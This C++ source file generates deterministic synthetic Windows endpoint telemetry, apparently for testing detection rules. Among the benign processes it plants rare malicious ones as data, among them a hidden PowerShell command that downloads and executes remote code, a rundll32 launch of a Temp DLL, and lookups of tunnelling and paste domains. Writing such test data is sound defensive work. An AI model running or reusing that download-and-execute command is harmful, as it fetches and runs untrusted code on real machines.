// The synthetic telemetry generator (see telemetry.h). Deterministic: the same seed and event
// count always give the same bytes (own PRNG, no std distributions, whose output varies).
#include "gen/telemetry.h"

#include "store/timestamp.h"

#include <cstdio>
#include <deque>
#include <string_view>
#include <vector>
#include <zlib.h>

namespace eqlwb {

namespace {

// splitmix64: tiny, fast, and its output is fixed by its definition.
class Rng {
public:
    explicit Rng(uint64_t seed)
        : x_(seed * 0x9E3779B97F4A7C15ULL + 0x1234567)
    {
    }
    uint64_t next()
    {
        uint64_t z = (x_ += 0x9E3779B97F4A7C15ULL);
        z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ULL;
        z = (z ^ (z >> 27)) * 0x94D049BB133111EBULL;
        return z ^ (z >> 31);
    }
    uint64_t below(uint64_t n) { return n ? next() % n : 0; }
    int64_t range(int64_t lo, int64_t hi) { return lo + int64_t(below(uint64_t(hi - lo + 1))); }
    bool chance(unsigned perMille) { return below(1000) < perMille; }

private:
    uint64_t x_;
};

struct ProcessKind {
    const char* name;
    const char* executable; // {u} is the user name
    const char* parent;
    const char* commandArgs;
    std::vector<const char*> domains;
    unsigned weight;
    bool system; // runs as SYSTEM
};

// Benign software first (its lookups of abused services are the false positives), then the
// planted malicious processes (rare).
const std::vector<ProcessKind>& processKinds()
{
    static const std::vector<ProcessKind> kinds = {
        {"chrome.exe", R"(C:\Program Files\Google\Chrome\Application\chrome.exe)", "explorer.exe",
            "--type=renderer --lang=en-US",
            {"www.google.com", "mail.google.com", "drive.google.com", "raw.githubusercontent.com",
                "pastebin.com", "stackoverflow.com", "api.github.com", "www.youtube.com",
                "fonts.googleapis.com"},
            180, false},
        {"msedge.exe", R"(C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe)", "explorer.exe",
            "--single-argument",
            {"www.bing.com", "login.live.com", "onedrive.live.com", "graph.microsoft.com",
                "contoso.sharepoint.com", "www.msn.com"},
            140, false},
        {"firefox.exe", R"(C:\Program Files\Mozilla Firefox\firefox.exe)", "explorer.exe", "-contentproc",
            {"www.mozilla.org", "pastebin.com", "gist.githubusercontent.com", "duckduckgo.com"}, 50, false},
        {"OneDrive.exe", R"(C:\Users\{u}\AppData\Local\Microsoft\OneDrive\OneDrive.exe)", "explorer.exe",
            "/background",
            {"onedrive.live.com", "api.onedrive.com", "g.live.com", "contoso-my.sharepoint.com"}, 70, false},
        {"Dropbox.exe", R"(C:\Program Files (x86)\Dropbox\Client\Dropbox.exe)", "explorer.exe",
            "/systemstartup",
            {"api.dropboxapi.com", "content.dropboxapi.com", "dl.dropboxusercontent.com", "www.dropbox.com"},
            40, false},
        {"slack.exe", R"(C:\Users\{u}\AppData\Local\slack\app-4.36.140\slack.exe)", "explorer.exe",
            "--process-start-args", {"slack.com", "api.slack.com", "slack-files.com", "edgeapi.slack.com"},
            50, false},
        {"Teams.exe", R"(C:\Users\{u}\AppData\Local\Microsoft\Teams\current\Teams.exe)", "explorer.exe",
            "--system-initiated", {"teams.microsoft.com", "graph.microsoft.com", "login.microsoftonline.com"},
            60, false},
        {"Code.exe", R"(C:\Users\{u}\AppData\Local\Programs\Microsoft VS Code\Code.exe)", "explorer.exe", "",
            {"api.github.com", "marketplace.visualstudio.com", "global.rel.tunnels.api.visualstudio.com",
                "raw.githubusercontent.com"},
            25, false},
        {"MsMpEng.exe", R"(C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24030.9-0\MsMpEng.exe)",
            "services.exe", "",
            {"wdcp.microsoft.com", "definitionupdates.blob.core.windows.net", "go.microsoft.com"}, 40, true},
        {"svchost.exe", R"(C:\Windows\System32\svchost.exe)", "services.exe", "-k netsvcs -p",
            {"time.windows.com", "settings-win.data.microsoft.com", "ctldl.windowsupdate.com"}, 120, true},
        {"OUTLOOK.EXE", R"(C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE)", "explorer.exe", "",
            {"outlook.office365.com", "login.microsoftonline.com"}, 60, false},
        {"notepad.exe", R"(C:\Windows\System32\notepad.exe)", "explorer.exe", "", {}, 40, false},
        {"cmd.exe", R"(C:\Windows\System32\cmd.exe)", "explorer.exe", "/c whoami", {}, 30, false},
        // Planted: the behaviour the seed rule is for.
        {"powershell.exe", R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)", "WINWORD.EXE",
            "-nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/x')",
            {"pastebin.com", "raw.githubusercontent.com", "transfer.sh", "api.telegram.org"}, 3, false},
        {"rundll32.exe", R"(C:\Windows\System32\rundll32.exe)", "explorer.exe",
            R"(C:\Users\{u}\AppData\Local\Temp\upd.dll,Start)",
            {"4f2a-203-0-113-7.ngrok.io", "relay.portmap.io", "files.catbox.moe", "cdn.discordapp.com"}, 2,
            false},
        {"svcupdate.exe", R"(C:\Users\{u}\AppData\Roaming\svcupdate\svcupdate.exe)", "explorer.exe", "",
            {"serveo.net", "qz7.localtunnel.me", "webhook.site", "paste.ee"}, 2, false},
    };
    return kinds;
}

const std::vector<const char*>& benignDomains()
{
    static const std::vector<const char*> d = {"www.google.com", "www.bing.com", "login.microsoftonline.com",
        "www.wikipedia.org", "news.ycombinator.com", "www.office.com", "update.googleapis.com"};
    return d;
}

const char* const kUsers[] = {"alice.martin", "bob.nguyen", "carol.smith", "dan.okafor", "erin.kowalski",
    "farid.haddad", "grace.lee", "hugo.moreau", "ines.silva", "jon.berg", "kim.tanaka", "liam.walsh"};
const char* const kDepartments[] = {"FIN", "HR", "ENG", "OPS", "SALES", "LEGAL"};

struct Host {
    std::string name;
    std::string ip;
    size_t user;
};

struct LiveProcess {
    size_t kind;
    size_t host;
    bool system;
    int64_t pid;
    std::string entityId;
};

void appendEscaped(std::string& out, std::string_view s)
{
    for (char c : s) {
        if (c == '\\' || c == '"')
            out.push_back('\\');
        out.push_back(c);
    }
}

std::string replaceUser(const char* text, const char* user)
{
    std::string s = text;
    for (size_t at; (at = s.find("{u}")) != std::string::npos;)
        s.replace(at, 3, user);
    return s;
}

} // namespace

struct TelemetryGenerator::State {
    GenOptions opt;
    Rng rng;
    uint64_t produced = 0;
    int64_t clock;
    int64_t meanGap;
    std::vector<Host> hosts;
    std::vector<LiveProcess> live; // recent processes, reused for lookups and connections
    std::deque<std::string> pending; // events of the current scenario, in time order
    unsigned totalWeight = 0;
    uint64_t entityCounter = 0;

    explicit State(const GenOptions& o)
        : opt(o)
        , rng(o.seed)
        , clock(o.startNanos)
    {
        const int64_t span = int64_t(o.days) * 86400LL * 1'000'000'000LL;
        meanGap = std::max<int64_t>(1'000'000, span / int64_t(std::max<uint64_t>(o.events, 1)));
        for (int i = 0; i < 24; ++i) {
            Host h;
            h.name = std::string("WKS-") + kDepartments[i % 6] + "-" + (i < 9 ? "0" : "")
                + std::to_string(i + 1);
            h.ip = "10.20." + std::to_string(i / 6 + 1) + "." + std::to_string(20 + i);
            h.user = size_t(i) % std::size(kUsers);
            hosts.push_back(h);
        }
        for (const auto& k : processKinds())
            totalWeight += k.weight;
    }

    size_t pickKind()
    {
        uint64_t r = rng.below(totalWeight);
        const auto& kinds = processKinds();
        for (size_t i = 0; i < kinds.size(); ++i) {
            if (r < kinds[i].weight)
                return i;
            r -= kinds[i].weight;
        }
        return 0;
    }

    void header(std::string& e, int64_t t, const char* category, const char* type, const char* dataset)
    {
        e += "{\"@timestamp\":\"";
        e += formatTimestamp(t);
        e += "\",\"event\":{\"kind\":\"event\",\"category\":[\"";
        e += category;
        e += "\"],\"type\":[\"";
        e += type;
        e += "\"],\"dataset\":\"";
        e += dataset;
        e += "\",\"ingested\":\"";
        e += formatTimestamp(t + rng.range(1'000'000'000, 6'000'000'000));
        e += "\"}";
    }

    void hostUserProcess(std::string& e, const LiveProcess& p)
    {
        const Host& h = hosts[p.host];
        const ProcessKind& k = processKinds()[p.kind];
        const char* user = kUsers[h.user];
        e += ",\"host\":{\"name\":\"";
        e += h.name;
        e += "\",\"os\":{\"type\":\"windows\"}}";
        e += ",\"user\":{";
        if (p.system) {
            e += "\"name\":\"SYSTEM\",\"domain\":\"NT AUTHORITY\",\"id\":\"S-1-5-18\"}";
        } else {
            e += "\"name\":\"";
            e += user;
            e += "\",\"domain\":\"CORP\",\"id\":\"S-1-5-21-7311-";
            e += std::to_string(1100 + h.user);
            e += "\"}";
        }
        e += ",\"process\":{\"name\":\"";
        e += k.name;
        e += "\",\"executable\":\"";
        appendEscaped(e, replaceUser(k.executable, user));
        e += "\",\"pid\":";
        e += std::to_string(p.pid);
        e += ",\"entity_id\":\"";
        e += p.entityId;
        e += "\"";
    }

    void processStart(int64_t t, const LiveProcess& p)
    {
        const ProcessKind& k = processKinds()[p.kind];
        std::string e;
        header(e, t, "process", "start", "endpoint.events.process");
        hostUserProcess(e, p);
        e += ",\"command_line\":\"";
        appendEscaped(e, replaceUser(k.executable, kUsers[hosts[p.host].user]));
        if (*k.commandArgs) {
            e += " ";
            appendEscaped(e, replaceUser(k.commandArgs, kUsers[hosts[p.host].user]));
        }
        e += "\",\"parent\":{\"name\":\"";
        e += k.parent;
        e += "\",\"pid\":";
        e += std::to_string(rng.range(400, 9000));
        e += "}}";
        e += "}";
        pending.push_back(std::move(e));
    }

    void dns(int64_t t, const LiveProcess& p)
    {
        const ProcessKind& k = processKinds()[p.kind];
        const char* domain = !k.domains.empty() && !rng.chance(150)
            ? k.domains[rng.below(k.domains.size())]
            : benignDomains()[rng.below(benignDomains().size())];
        std::string e;
        header(e, t, "network", "protocol", "endpoint.events.network");
        hostUserProcess(e, p);
        e += "},\"network\":{\"protocol\":\"dns\",\"transport\":\"udp\"}";
        e += ",\"dns\":{\"question\":{\"name\":\"";
        e += domain;
        e += "\",\"type\":\"A\"},\"resolved_ip\":[\"";
        e += std::to_string(rng.range(13, 199)) + "." + std::to_string(rng.range(0, 255)) + "."
            + std::to_string(rng.range(0, 255)) + "." + std::to_string(rng.range(1, 254));
        e += "\"]}}";
        pending.push_back(std::move(e));
    }

    void connection(int64_t t, const LiveProcess& p)
    {
        std::string e;
        header(e, t, "network", "connection", "endpoint.events.network");
        hostUserProcess(e, p);
        e += "},\"network\":{\"transport\":\"tcp\",\"type\":\"ipv4\"}";
        e += ",\"source\":{\"ip\":\"";
        e += hosts[p.host].ip;
        e += "\",\"port\":";
        e += std::to_string(rng.range(49152, 65535));
        e += "},\"destination\":{\"ip\":\"";
        e += std::to_string(rng.range(13, 199)) + "." + std::to_string(rng.range(0, 255)) + "."
            + std::to_string(rng.range(0, 255)) + "." + std::to_string(rng.range(1, 254));
        e += "\",\"port\":";
        e += rng.chance(850) ? "443" : "80";
        e += "}}";
        pending.push_back(std::move(e));
    }

    void file(int64_t t, const LiveProcess& p)
    {
        static const char* const names[]
            = {"report.docx", "budget.xlsx", "notes.txt", "setup.msi", "cache.tmp"};
        const char* name = names[rng.below(std::size(names))];
        std::string e;
        header(e, t, "file", rng.chance(700) ? "creation" : "change", "endpoint.events.file");
        hostUserProcess(e, p);
        e += "},\"file\":{\"name\":\"";
        e += name;
        e += "\",\"path\":\"";
        appendEscaped(e, "C:\\Users\\" + std::string(kUsers[hosts[p.host].user]) + "\\Documents\\" + name);
        e += "\",\"extension\":\"";
        e += std::string_view(name).substr(std::string_view(name).rfind('.') + 1);
        e += "\"}}";
        pending.push_back(std::move(e));
    }

    void registry(int64_t t, const LiveProcess& p)
    {
        static const char* const keys[] = {R"(HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater)",
            R"(HKCU\Software\Microsoft\Office\16.0\Common\General\ShownFirstRunOptin)",
            R"(HKLM\SYSTEM\CurrentControlSet\Services\bam\State\UserSettings\LastRun)"};
        std::string e;
        header(e, t, "registry", "change", "endpoint.events.registry");
        hostUserProcess(e, p);
        e += "},\"registry\":{\"path\":\"";
        appendEscaped(e, keys[rng.below(std::size(keys))]);
        e += "\",\"hive\":\"HKLM\",\"data\":{\"type\":\"REG_SZ\"}}}";
        pending.push_back(std::move(e));
    }

    LiveProcess newProcess()
    {
        LiveProcess p;
        p.kind = pickKind();
        p.host = size_t(rng.below(hosts.size()));
        p.system = processKinds()[p.kind].system;
        p.pid = rng.range(1000, 20000);
        char id[48];
        std::snprintf(id, sizeof id, "{%08llx-%04x-%016llx}", static_cast<unsigned long long>(opt.seed),
            unsigned(p.host), static_cast<unsigned long long>(++entityCounter));
        p.entityId = id;
        return p;
    }

    int64_t step() { return rng.range(meanGap / 4, meanGap + meanGap * 3 / 4); }

    // One scenario: a few events, in time order, into `pending`.
    void scenario()
    {
        const uint64_t r = rng.below(100);
        if (r < 30 || live.empty()) {
            // A process starts, then looks names up and connects within seconds.
            LiveProcess p = newProcess();
            int64_t t = clock;
            processStart(t, p);
            if (!processKinds()[p.kind].domains.empty()) {
                const int lookups = int(rng.range(1, 3));
                for (int i = 0; i < lookups; ++i) {
                    t += rng.range(50'000'000, 2'500'000'000);
                    dns(t, p);
                    if (rng.chance(600)) {
                        t += rng.range(5'000'000, 400'000'000);
                        connection(t, p);
                    }
                }
            }
            clock = t;
            if (live.size() < 400)
                live.push_back(std::move(p));
            else
                live[rng.below(live.size())] = std::move(p);
            return;
        }
        const LiveProcess& p = live[rng.below(live.size())];
        if (r < 62)
            dns(clock, p);
        else if (r < 82)
            connection(clock, p);
        else if (r < 93)
            file(clock, p);
        else
            registry(clock, p);
    }
};

TelemetryGenerator::TelemetryGenerator(const GenOptions& options)
    : s_(std::make_unique<State>(options))
{
}

TelemetryGenerator::~TelemetryGenerator() = default;

bool TelemetryGenerator::next(std::string& out)
{
    if (s_->produced >= s_->opt.events)
        return false;
    while (s_->pending.empty()) {
        s_->clock += s_->step();
        s_->scenario();
    }
    out += s_->pending.front();
    s_->pending.pop_front();
    ++s_->produced;
    return true;
}

Status writeTelemetry(const std::string& path, const GenOptions& options, const ProgressFn& progress)
{
    try {
        const bool gz = path.size() > 3 && path.compare(path.size() - 3, 3, ".gz") == 0;
        std::FILE* plain = nullptr;
        gzFile zipped = nullptr;
        if (gz)
            zipped = gzopen(path.c_str(), "wb6");
        else
            plain = std::fopen(path.c_str(), "wb");
        if (!plain && !zipped)
            return Error{"io", "cannot write " + path, {}};
        TelemetryGenerator gen(options);
        std::string buf;
        uint64_t n = 0;
        bool ok = true;
        auto flush = [&] {
            if (buf.empty())
                return;
            if (gz)
                ok = ok && gzwrite(zipped, buf.data(), unsigned(buf.size())) == int(buf.size());
            else
                ok = ok && std::fwrite(buf.data(), 1, buf.size(), plain) == buf.size();
            buf.clear();
        };
        while (gen.next(buf)) {
            buf.push_back('\n');
            if (++n % 4096 == 0) {
                flush();
                if (progress)
                    progress(Progress{0, 0, n});
            }
        }
        flush();
        if (gz)
            ok = gzclose(zipped) == Z_OK && ok;
        else
            ok = std::fclose(plain) == 0 && ok;
        if (!ok)
            return Error{"io", "cannot write " + path + " (disk full?)", {}};
        return Ok{};
    } catch (const std::exception& e) {
        return Error{"internal", e.what(), {}};
    }
}

} // namespace eqlwb
